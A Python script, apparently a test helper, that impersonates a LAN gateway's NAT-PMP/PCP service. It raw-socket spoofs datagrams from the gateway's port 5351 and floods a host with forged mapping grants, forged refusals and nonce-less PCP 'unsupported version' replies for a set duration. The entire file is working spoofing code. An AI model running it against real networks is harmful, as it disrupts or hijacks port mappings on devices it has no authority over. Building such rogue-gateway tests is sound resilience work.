#!/usr/bin/env python3
"""forge_gateway.py - a LAN device posing as the gateway's NAT-PMP/PCP port (from ns rogue).

Sprays, from GATEWAY:5351 (forged with spoof.py), at every port of PORTS on the LAN host:

  natpmp-grant   NAT-PMP mapping replies (opcode 129/130, result 0) for every internal
                 port of SPECS, granting that port for 2^32-1 s: a reply that is believed
                 looks right, and its mapping is never renewed;
  natpmp-refuse  the same with result code 1 (Unsupported Version): one believed fails
                 the mapping (or deletion);
  pcp-refuse     PCP-style UNSUPP_VERSION (NAT-PMP format, and PCPv1), which carry no
                 nonce: one believed fails every pending PCP request.

  forge_gateway.py --gateway A --host A --ports LO-HI --specs "udp:7076-7079 tcp:15063"
                   --kinds natpmp-grant,natpmp-refuse --duration S --round-interval S

One round sends every datagram once; rounds repeat every ROUND_INTERVAL seconds (at most
as fast as they can be sent) until DURATION seconds have passed or SIGTERM. Prints one
JSON line: rounds and datagrams sent. Needs CAP_NET_RAW.
"""

import argparse
import json
import signal
import struct
import time

import spoof

NATPMP_PORT = 5351
# result code 1 in a NAT-PMP-format reply, and a PCPv1 response with result 1
PCP_UNSUPP = [bytes([0, 0x81, 0, 1, 0, 0, 0x10, 0]), bytes([1, 0x81, 0, 1]) + struct.pack("!I", 1800) + bytes(16)]


def ports_of(specs):
    """(opcode, internal port) for SPEC words like "udp:7076-7079 tcp+udp:15063"."""
    out = []
    for word in specs.split():
        protos, ports = word.split(":", 1)
        for part in ports.split(","):
            lo, _, hi = part.partition("-")
            for port in range(int(lo), int(hi or lo) + 1):
                for proto in protos.split("+"):
                    out.append((129 if proto == "udp" else 130, port))
    return out


def natpmp_reply(opcode, result, internal):
    lifetime = 0xFFFFFFFF if result == 0 else 0
    external = internal if result == 0 else 0
    return struct.pack("!BBHIHHI", 0, opcode, result, 1, internal, external, lifetime)


def main():
    parser = argparse.ArgumentParser(description="spray forged NAT-PMP/PCP replies from the gateway")
    parser.add_argument("--gateway", required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--ports", required=True)
    parser.add_argument("--specs", default="")
    parser.add_argument("--kinds", required=True)
    parser.add_argument("--duration", type=float, required=True)
    parser.add_argument("--round-interval", type=float, default=0.0)
    args = parser.parse_args()
    lo, _, hi = args.ports.partition("-")
    targets = range(int(lo), int(hi or lo) + 1)
    kinds = set(args.kinds.split(","))
    if not 0 < args.duration <= 600 or len(targets) > 1000 or kinds - {"natpmp-grant", "natpmp-refuse", "pcp-refuse"}:
        raise SystemExit("forge_gateway.py: --duration 0..600 s, at most 1000 ports, known --kinds")

    payloads = []
    for opcode, internal in ports_of(args.specs):
        if "natpmp-grant" in kinds:
            payloads.append(natpmp_reply(opcode, 0, internal))
        if "natpmp-refuse" in kinds:
            payloads.append(natpmp_reply(opcode, 1, internal))
    if "pcp-refuse" in kinds:
        payloads.extend(PCP_UNSUPP)
    packets = [spoof.datagram((args.gateway, NATPMP_PORT), (args.host, port), p) for port in targets for p in payloads]

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    sock = spoof.raw_socket()
    rounds = sent = 0
    end = time.monotonic() + args.duration
    while not stop and time.monotonic() < end:
        started = time.monotonic()
        for packet in packets:
            try:
                sock.sendto(packet, (args.host, 0))
                sent += 1
            except OSError:  # a full queue: the next round tries again
                pass
        rounds += 1
        pause = args.round_interval - (time.monotonic() - started)
        if pause > 0:
            time.sleep(min(pause, max(0.0, end - time.monotonic())))
    print(json.dumps({"rounds": rounds, "sent": sent, "per_round": len(packets)}), flush=True)


if __name__ == "__main__":
    main()
